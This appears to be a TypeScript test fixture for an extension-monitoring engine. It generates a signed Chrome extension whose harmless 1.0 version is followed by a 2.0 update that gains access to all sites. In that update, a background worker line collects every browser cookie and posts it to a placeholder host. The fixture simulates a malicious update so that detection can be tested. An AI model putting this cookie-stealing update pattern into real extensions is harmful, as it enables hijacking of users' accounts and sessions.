import { buildZip } from '../../../engine/fixtures/packages/build-zip.ts';
import { extensionIdOf, makeEcKey, signCrx3 } from '../../../engine/fixtures/packages/sign-crx.ts';

export interface ChangingExtension {
  readonly id: string;
  /** 1.0 and 2.0 */
  readonly versions: readonly [Uint8Array, Uint8Array];
}

/** An extension signed with a key of its own; the second version reads all sites and steals cookies. */
export function makeChangingExtension(index: number): ChangingExtension {
  const key = makeEcKey();
  const pack = (version: string, manifest: object, code: string): Uint8Array => {
    const all = {
      manifest_version: 3,
      name: `Watched ${index}`,
      version,
      permissions: ['cookies'],
      background: { service_worker: 'worker.js' },
      ...manifest,
    };
    const zip = buildZip([
      { name: 'manifest.json', contents: JSON.stringify(all) },
      { name: 'worker.js', contents: code },
    ]);
    return signCrx3(zip, { ecKeys: [key] });
  };
  const theft = `chrome.cookies.getAll({}, (all) => fetch('https://s${index}.example/', { method: 'POST', body: JSON.stringify(all) }));`;
  const greedy = { host_permissions: ['<all_urls>'] };
  return {
    id: extensionIdOf(key),
    versions: [pack('1.0', {}, 'console.log(1);'), pack('2.0', greedy, theft)],
  };
}
